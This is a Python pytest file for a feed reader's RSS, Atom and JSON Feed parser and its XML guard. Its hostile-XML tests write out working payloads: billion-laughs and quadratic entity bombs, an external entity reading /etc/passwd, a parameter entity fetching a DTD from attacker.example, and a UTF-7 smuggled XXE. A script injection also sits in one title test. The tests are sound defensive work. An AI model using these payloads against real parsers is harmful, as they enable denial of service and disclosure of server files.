"""Feed parsing and the XML guard, on small hand-written feeds: one named test per case."""

from __future__ import annotations

import json
import time
import tracemalloc
from collections.abc import Callable
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reader.errors import (
    DocumentError,
    DocumentTooLarge,
    EmptyDocument,
    HostileDocument,
    MalformedFeed,
    NotAFeed,
)
from reader.records import Enclosure
from reader.sync.feeds import ParsedFeed, detect_encoding, discover_feeds, parse_feed
from reader.sync.xmlguard import MAX_FEED_BYTES, check_prolog, check_text

RSS_NAMESPACES = ('xmlns:content="http://purl.org/rss/1.0/modules/content/" '
                  'xmlns:dc="http://purl.org/dc/elements/1.1/"')


def rss(items: str, channel: str = "<title>Example</title><link>https://example.com/</link>",
        declaration: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
    return (f'{declaration}\n<rss version="2.0" {RSS_NAMESPACES}><channel>{channel}'
            f"{items}</channel></rss>").encode()


def item(body: str = "", title: str = "A title") -> str:
    return f"<item><title>{title}</title>{body}</item>"


# --- RSS ---------------------------------------------------------------------------------------


def test_rss20_entry_has_every_field() -> None:
    feed = parse_feed(rss(
        """<language>en-GB</language>
        <item>
          <title>  Tom &amp;amp; Jerry
             return </title>
          <link>/posts/1</link>
          <guid isPermaLink="false">post-1</guid>
          <pubDate>Tue, 02 Jan 2024 10:30:00 +0200</pubDate>
          <dc:creator>Ann Author</dc:creator>
          <category> news </category><category>News</category><category>tech</category>
          <description>Short teaser</description>
          <content:encoded><![CDATA[<p>Full text with <a href="/about">a link</a>
            and <img src="pics/a.png" alt=""> and <a href="https://other.org/x">another</a>.</p>]]>
          </content:encoded>
          <enclosure url="https://cdn.example.com/ep1.mp3" type="audio/mpeg" length="1234"/>
        </item>"""), url="https://example.com/feed.xml")

    assert feed.format == "rss20"
    assert feed.title == "Example"
    assert feed.site_url == "https://example.com/"
    assert feed.language == "en-GB"
    assert feed.warnings == ()
    entry = feed.entries[0]
    assert entry.title == "Tom & Jerry return"
    assert entry.url == "https://example.com/posts/1"
    assert entry.guid == "post-1"
    assert entry.published == datetime(2024, 1, 2, 8, 30, tzinfo=UTC)
    assert entry.author == "Ann Author"
    assert entry.tags == ("news", "tech")
    assert entry.enclosures == (Enclosure("https://cdn.example.com/ep1.mp3", "audio/mpeg", 1234),)
    assert 'href="https://example.com/about"' in entry.body_html
    assert 'src="https://example.com/pics/a.png"' in entry.body_html
    assert 'href="https://other.org/x"' in entry.body_html
    assert "Short teaser" not in entry.body_html
    assert entry.subtitle is None and entry.related == ()


def test_rss_guid_is_kept_as_written_even_with_a_document_url() -> None:
    feed = parse_feed(rss(item("<guid>50c628b3e4b0:57bcbe83</guid>")),
                      url="https://example.com/feed.xml")
    assert feed.entries[0].guid == "50c628b3e4b0:57bcbe83"


def test_rss_guid_that_is_not_a_permalink_is_not_the_link() -> None:
    feed = parse_feed(rss(item('<guid isPermaLink="false">http://guid.example.com/</guid>')))
    assert feed.entries[0].url is None
    assert feed.entries[0].guid == "http://guid.example.com/"


def test_relative_links_without_a_document_url_resolve_against_the_channel_link() -> None:
    feed = parse_feed(rss(item('<link>/a</link><enclosure url="/b.png"/>')))
    entry = feed.entries[0]
    assert entry.url == "https://example.com/a"
    assert entry.enclosures == (Enclosure("https://example.com/b.png", None, None),)


def test_rss10_rdf() -> None:
    feed = parse_feed("""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://example.org/"><title>RDF site</title>
    <link>https://example.org/</link><dc:language>fr</dc:language></channel>
  <item rdf:about="https://example.org/1"><title>First</title><link>https://example.org/1</link>
    <description>One</description><dc:date>2023-05-06T07:08:09-04:00</dc:date>
    <dc:creator>Zoé</dc:creator></item>
  <item rdf:about="https://example.org/2"><title>Second</title><link>https://example.org/2</link>
  </item>
</rdf:RDF>""".encode())
    assert feed.format == "rss10"
    assert (feed.title, feed.language) == ("RDF site", "fr")
    assert [e.title for e in feed.entries] == ["First", "Second"]
    first = feed.entries[0]
    assert first.published == datetime(2023, 5, 6, 11, 8, 9, tzinfo=UTC)
    assert first.author == "Zoé"
    assert first.body_html == "One"
    assert feed.entries[1].published is None


def test_malformed_urls_are_kept_as_written_but_no_enclosure_is_guessed() -> None:
    feed = parse_feed(rss(item('<link>http://[oops/</link><enclosure url="/a.mp3" length="²"/>'
                               '<description>&lt;img src="b.png"&gt;</description>')),
                      url="http://[bad/feed")
    entry = feed.entries[0]
    assert entry.url == "http://[oops/"
    assert entry.enclosures == ()  # no web URL can be made of "/a.mp3" here
    assert entry.body_html == '<img src="b.png">'


def test_missing_dates_stay_missing() -> None:
    feed = parse_feed(rss(item() + item("<pubDate>not a date at all</pubDate>")))
    assert [e.published for e in feed.entries] == [None, None]


# --- Atom --------------------------------------------------------------------------------------

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://example.net/blog/" xml:lang="en">
  <title type="html">Atom &lt;em&gt;News&lt;/em&gt;</title>
  <link href="./"/>
  <author><name>Feed Owner</name></author>
  <entry>
    <title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">An <b>XHTML</b> title</div>
    </title>
    <id>tag:example.net,2024:1</id>
    <link rel="alternate" href="posts/1"/>
    <link rel="enclosure" href="media/talk.ogg" type="audio/ogg" length="99"/>
    <published>2024-03-01T12:00:00-05:00</published>
    <updated>2024-03-02T00:00:00Z</updated>
    <category term="atoms"/><category term="Atoms"/>
    <content type="xhtml" xml:base="https://cdn.example.net/2024/">
      <div xmlns="http://www.w3.org/1999/xhtml">
        <p><img src="pic.jpg"/> <a href="#note">x</a></p></div>
    </content>
  </entry>
  <entry>
    <title>Only updated</title>
    <id>tag:example.net,2024:2</id>
    <author><name>Guest One</name></author><author><name>Guest Two</name></author>
    <updated>2024-03-05T08:00:00+01:00</updated>
    <summary type="text">Plain &lt;text&gt;

second paragraph</summary>
  </entry>
</feed>"""


def test_atom10_with_xml_base_and_relative_links() -> None:
    feed = parse_feed(ATOM)
    assert feed.format == "atom10"
    assert feed.title == "Atom News"
    assert feed.site_url == "https://example.net/blog/"
    assert feed.language == "en"
    first = feed.entries[0]
    assert first.title == "An XHTML title"
    assert first.url == "https://example.net/blog/posts/1"
    assert first.guid == "tag:example.net,2024:1"
    assert first.published == datetime(2024, 3, 1, 17, 0, tzinfo=UTC)
    assert first.author == "Feed Owner"
    assert first.tags == ("atoms",)
    assert first.enclosures == (
        Enclosure("https://example.net/blog/media/talk.ogg", "audio/ogg", 99),)
    assert 'src="https://cdn.example.net/2024/pic.jpg"' in first.body_html
    assert 'href="#note"' in first.body_html


def test_atom_updated_is_used_when_published_is_missing() -> None:
    second = parse_feed(ATOM).entries[1]
    assert second.published == datetime(2024, 3, 5, 7, 0, tzinfo=UTC)
    assert second.author == "Guest One, Guest Two"
    assert second.body_html == "<p>Plain &lt;text&gt;</p><p>second paragraph</p>"


def test_relative_xml_base_resolves_against_the_document_url() -> None:
    feed = parse_feed(ATOM.replace(b'xml:base="https://example.net/blog/"', b'xml:base="blog/"'),
                      url="https://example.net/feeds/atom.xml")
    assert feed.entries[0].url == "https://example.net/feeds/blog/posts/1"


def test_html_title_loses_script_and_comments() -> None:
    feed = parse_feed(b"""<feed xmlns="http://www.w3.org/2005/Atom">
<title type="html">sa&lt;!-- -- nonwhitespace &gt;fe&lt;script&gt;alert(1);&lt;/script&gt;</title>
</feed>""")
    assert feed.title == "safe"


# --- JSON Feed and RSS-in-JSON -----------------------------------------------------------------

JSON_FEED = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Blog &#8211; JSON",
    "home_page_url": "https://example.org/",
    "language": "en-US",
    "authors": [{"name": "Root Author"}],
    "items": [
        {"id": 42, "url": "/posts/42", "title": "Add Task &amp; Sub Tasks",
         "content_html": '<p><img src="img/x.png"></p>',
         "date_published": "2024-06-01T10:00:00+02:00",
         "tags": ["a", " b ", "A"],
         "attachments": [{"url": "https://example.org/a.mp3", "mime_type": "audio/mpeg",
                          "size_in_bytes": 10}]},
        {"id": "two", "external_url": "https://elsewhere.org/story",
         "content_text": "Line one\nline <two>\n\nPara two",
         "date_modified": "2024-06-02T00:00:00Z",
         "authors": [{"name": "A"}, {"name": "B"}]},
        {"id": "three", "author": {"name": "Legacy"}, "summary": "just a summary"},
    ],
}


def test_json_feed_11() -> None:
    feed = parse_feed(json.dumps(JSON_FEED).encode())
    assert feed.format == "jsonfeed11"
    # JSON Feed titles are plain text, but a reference in one was escaped once too often.
    assert feed.title == "Blog – JSON"
    assert (feed.site_url, feed.language) == ("https://example.org/", "en-US")
    first, second, third = feed.entries
    assert first.title == "Add Task & Sub Tasks"
    assert first.guid == "42"
    assert first.url == "https://example.org/posts/42"
    assert first.body_html == '<p><img src="https://example.org/posts/img/x.png"></p>'
    assert first.published == datetime(2024, 6, 1, 8, 0, tzinfo=UTC)
    assert first.author == "Root Author"
    assert first.tags == ("a", "b")
    assert first.enclosures == (Enclosure("https://example.org/a.mp3", "audio/mpeg", 10),)
    assert second.url == "https://elsewhere.org/story"
    assert second.title == ""
    assert second.body_html == "<p>Line one<br>line &lt;two&gt;</p><p>Para two</p>"
    assert second.published == datetime(2024, 6, 2, tzinfo=UTC)
    assert second.author == "A, B"
    assert third.author == "Legacy"
    assert third.body_html == "<p>just a summary</p>"
    assert third.published is None


def test_json_feed_10_version() -> None:
    document = {**JSON_FEED, "version": "https://jsonfeed.org/version/1"}
    assert parse_feed(json.dumps(document).encode()).format == "jsonfeed10"


def test_rss_in_json() -> None:
    document = {"rss": {"version": "2.0", "channel": {
        "title": "Scripting", "link": "http://scripting.example/", "language": "en-us",
        "item": [{"link": "http://scripting.example/1", "description": "Hi <b>there</b>",
                  "pubDate": "Mon, 26 Jun 2017 12:20:05 GMT", "guid": "g1",
                  "category": ["x", {"#value": "y"}],
                  "enclosure": {"url": "http://scripting.example/a.mp3", "type": "audio/mpeg",
                                "length": "5"}}]}}}
    feed = parse_feed(json.dumps(document).encode())
    assert feed.format == "rss-in-json"
    assert (feed.title, feed.language) == ("Scripting", "en-us")
    entry = feed.entries[0]
    assert (entry.url, entry.guid, entry.title) == ("http://scripting.example/1", "g1", "")
    assert entry.published == datetime(2017, 6, 26, 12, 20, 5, tzinfo=UTC)
    assert entry.tags == ("x", "y")
    assert entry.enclosures == (Enclosure("http://scripting.example/a.mp3", "audio/mpeg", 5),)


def test_broken_json_is_malformed() -> None:
    with pytest.raises(MalformedFeed):
        parse_feed(b'{\n  "verion": "1.0"\n')


def test_json_that_is_not_a_feed() -> None:
    with pytest.raises(NotAFeed):
        parse_feed(b'{"hello": "world"}')


def test_lone_surrogates_in_json_are_replaced() -> None:
    feed = parse_feed(b'{"version": "https://jsonfeed.org/version/1", "title": "x\\ud800y",'
                      b' "items": []}')
    feed.title.encode("utf-8")


# --- not feeds ---------------------------------------------------------------------------------

HTML_PAGE = b"""<!DOCTYPE html>
<html><head><title>A blog</title>
<base href="/blog/">
<link rel="stylesheet" href="style.css">
<link rel="alternate" type="application/rss+xml" title="RSS" href="feed.xml">
<!-- <link rel="alternate" type="application/rss+xml" href="/hidden.xml"> -->
<link rel="Alternate Feed" type="application/atom+xml; charset=utf-8" href="https://feeds.example.com/atom">
<link rel=alternate type=application/feed+json href=/feed.json>
<link rel="alternate" type="application/rss+xml" href="feed.xml">
<link rel="alternate" type="text/html" hreflang="fr" href="/fr/">
</head><body><p>Hello</p></body></html>"""


def test_html_page_is_not_a_feed_and_lists_its_feeds() -> None:
    with pytest.raises(NotAFeed) as refused:
        parse_feed(HTML_PAGE, url="https://example.com/index.html")
    assert refused.value.alternates == (
        "https://example.com/blog/feed.xml",
        "https://feeds.example.com/atom",
        "https://example.com/feed.json",
    )


def test_discover_feeds_from_text_without_a_base() -> None:
    page = '<link rel="alternate" type="application/json" href="/f.json">'
    assert discover_feeds(page, None) == ("/f.json",)
    assert discover_feeds(page, "https://a.example/x/") == ("https://a.example/f.json",)


def test_opml_is_not_a_feed() -> None:
    with pytest.raises(NotAFeed):
        parse_feed(b'<?xml version="1.0"?><opml version="2.0"><head><title>Subs</title></head>'
                   b'<body><outline text="x" xmlUrl="https://x.example/feed"/></body></opml>')


def test_other_xml_is_not_a_feed() -> None:
    with pytest.raises(NotAFeed):
        parse_feed(b"<note><to>Tove</to><body>Don't forget me</body></note>")


def test_comment_only_document_is_malformed() -> None:
    with pytest.raises(MalformedFeed):
        parse_feed(b"<!--\nDescription: nothing here\n-->\n")


@pytest.mark.parametrize("data", [b"", b"   \n\t ", b"\xef\xbb\xbf  \n", b"\xff\xfe \x00\n\x00"])
def test_blank_documents_are_empty(data: bytes) -> None:
    with pytest.raises(EmptyDocument):
        parse_feed(data)


def test_too_large_is_refused_before_reading() -> None:
    with pytest.raises(DocumentTooLarge):
        parse_feed(b" " * (MAX_FEED_BYTES + 1))


def test_truncated_before_any_entry_is_malformed() -> None:
    with pytest.raises(MalformedFeed):
        parse_feed(rss(item())[:120])


def test_truncated_after_an_entry_keeps_it_with_a_warning() -> None:
    data = rss(item(title="Kept") + item(title="Cut"))
    feed = parse_feed(data[:data.index(b"Cut")])
    assert [e.title for e in feed.entries][:1] == ["Kept"]
    assert feed.warnings


def test_unclosed_root_tag_is_recovered_with_a_warning() -> None:
    feed = parse_feed(b'<rss version="2.0"><channel><item><link>http://link/get?a=1&amp;b=2'
                      b"</link></item></channel></rss")
    assert feed.entries[0].url == "http://link/get?a=1&b=2"
    assert feed.warnings


# --- encodings ---------------------------------------------------------------------------------


def test_undeclared_latin1_is_guessed() -> None:
    data = rss(item(title="Café crème brûlée à la française"), declaration="")
    feed = parse_feed(data.decode().encode("latin-1"))
    assert feed.entries[0].title == "Café crème brûlée à la française"
    assert feed.warnings


def test_undeclared_cp1252_quotes() -> None:
    data = rss(item(title="\u201cQuoted\u201d \u2014 it\u2019s fine"), declaration="")
    feed = parse_feed(data.decode().encode("cp1252"))
    assert feed.entries[0].title == "\u201cQuoted\u201d \u2014 it\u2019s fine"


def test_declared_latin1_needs_no_warning() -> None:
    data = rss(item(title="Ação"), declaration='<?xml version="1.0" encoding="ISO-8859-1"?>')
    feed = parse_feed(data.decode().encode("latin-1"))
    assert (feed.entries[0].title, feed.warnings) == ("Ação", ())


def test_http_charset_is_used_for_undeclared_bytes() -> None:
    data = rss(item(title="Как пережить новогоднюю ночь"), declaration="")
    feed = parse_feed(data.decode().encode("koi8-r"), content_type="text/xml; charset=KOI8-R")
    assert feed.entries[0].title == "Как пережить новогоднюю ночь"
    assert feed.warnings == ()


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be", "utf-16-le", "utf-32"])
def test_utf16_and_utf32(codec: str) -> None:
    declaration = f'<?xml version="1.0" encoding="{codec}"?>'
    text = rss(item(title="Ünïcödé ✓"), declaration=declaration).decode()
    data = text.encode(codec)  # "utf-16" and "utf-32" write a BOM; the others do not
    feed = parse_feed(data)
    assert feed.entries[0].title == "Ünïcödé ✓"
    assert detect_encoding(data).startswith(codec[:6])


def test_gb2312_is_read_although_expat_cannot() -> None:
    declaration = '<?xml version="1.0" encoding="gb2312"?>'
    data = rss(item(title="建国35周年纪念"), declaration=declaration).decode().encode("gb2312")
    assert parse_feed(data).entries[0].title == "建国35周年纪念"


def test_utf8_bom_and_leading_whitespace() -> None:
    feed = parse_feed(b"\xef\xbb\xbf\n  " + rss(item()))
    assert len(feed.entries) == 1
    assert feed.warnings  # whitespace before <?xml is not well-formed


# --- hostile XML -------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><title>&lol3;</title></channel></rss>"""


def quadratic_blowup() -> bytes:
    entity = "A" * 20_000
    uses = "&a;" * 10_000
    return (f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "{entity}">]>\n'
            f'<rss version="2.0"><channel><title>t</title><item><title>{uses}</title></item>'
            f"</channel></rss>").encode()


def test_billion_laughs_is_refused() -> None:
    with pytest.raises(HostileDocument):
        parse_feed(BILLION_LAUGHS)


def test_external_entity_is_refused_and_never_read() -> None:
    data = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&passwd;</title></channel></rss>"""
    with pytest.raises(HostileDocument, match="external"):
        parse_feed(data)


def test_parameter_entity_is_refused() -> None:
    data = b"""<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>
<rss version="2.0"/>"""
    with pytest.raises(HostileDocument, match="parameter"):
        parse_feed(data)


def test_quadratic_blowup_is_refused_fast_and_never_expanded() -> None:
    data = quadratic_blowup()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(HostileDocument):
            parse_feed(data)
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert elapsed < 0.5
    assert peak < 20 * len(data)  # expanded, it would be 200 MB of text


def test_quadratic_blowup_hidden_in_a_comment_is_refused() -> None:
    # feedparser's DOCTYPE rewriting finds declarations with a regular expression that does not
    # know about comments, and would re-declare this one for expat.
    data = quadratic_blowup().replace(b"<!DOCTYPE rss [", b"<!--\n").replace(
        b"]>\n<rss", b"\n-->\n<!DOCTYPE rss>\n<rss", 1)
    with pytest.raises(HostileDocument):
        check_prolog(data)


def test_entity_hiding_a_reference_in_a_character_reference_is_refused() -> None:
    with pytest.raises(HostileDocument):
        check_prolog(b'<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&#38;a;&#38;a;">]><r>&b;</r>')


def test_attribute_default_using_an_entity_is_refused() -> None:
    with pytest.raises(HostileDocument):
        check_prolog(b'<!DOCTYPE r [<!ENTITY a "xxxxxxxxxxxx"><!ATTLIST r x CDATA "&a;&a;">]><r/>')


def test_utf7_cannot_smuggle_a_doctype_past_the_guard() -> None:
    data = (b'<?xml version="1.0" encoding="utf-7"?>+ADw-+ACE-DOCTYPE r +AFs-+ADw-+ACE-ENTITY x '
            b"SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-<rss version=\"2.0\"/>")
    with pytest.raises(HostileDocument):
        parse_feed(data)


def test_utf16_hostile_document_is_refused() -> None:
    with pytest.raises(HostileDocument):
        parse_feed(BILLION_LAUGHS.decode().encode("utf-16"))


def test_small_literal_entity_is_allowed() -> None:
    feed = parse_feed(b"""<!DOCTYPE rss [
  <!ENTITY id "tag:example.com,">
]>
<rss version="2.0"><channel><item>
<guid isPermaLink='false'>&id;2006-05-04:/blog/</guid>
</item></channel></rss>""")
    assert feed.entries[0].guid == "tag:example.com,2006-05-04:/blog/"
    assert feed.warnings == ()


def test_netscape_doctype_with_external_dtd_is_allowed() -> None:
    feed = parse_feed(b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
 "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><item><title>i</title></item></channel></rss>""")
    assert (feed.format, feed.title) == ("rss091n", "Old")


def test_prolog_check_is_fast_on_an_ordinary_feed() -> None:
    data = rss(item("<description>" + "word " * 1000 + "</description>") * 600)
    assert len(data) > 3_000_000
    best = min(_timed(check_prolog, data) for _ in range(20))
    assert best < 0.001


def test_check_text_finds_the_root() -> None:
    prolog = check_text('<?xml version="1.0"?><!-- c --><!DOCTYPE x [<!ENTITY e "<b>">]><x:feed/>')
    assert prolog.root == "x:feed"


def _timed(function: Callable[[bytes], object], data: bytes) -> float:
    started = time.perf_counter()
    function(data)
    return time.perf_counter() - started


# --- any bytes at all --------------------------------------------------------------------------

FUZZ_SEED = rss(item('<link>/x</link><guid>g</guid><pubDate>Tue, 02 Jan 2024 10:30:00 GMT'
                     '</pubDate><description>&lt;p&gt;body&lt;/p&gt;</description>'))


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048))
def test_any_bytes_parse_or_raise_a_document_error(data: bytes) -> None:
    try:
        feed = parse_feed(data)
    except DocumentError:
        return
    assert isinstance(feed, ParsedFeed)


@settings(max_examples=200, deadline=None)
@given(st.integers(0, len(FUZZ_SEED)), st.binary(max_size=16), st.integers(0, len(FUZZ_SEED)))
def test_damaged_feeds_parse_or_raise_a_document_error(cut: int, junk: bytes, at: int) -> None:
    data = (FUZZ_SEED[:at] + junk + FUZZ_SEED[at:])[:cut + len(junk)]
    try:
        feed = parse_feed(data)
    except DocumentError:
        return
    assert isinstance(feed, ParsedFeed)
    for entry in feed.entries:
        assert entry.published is None or entry.published.tzinfo is UTC
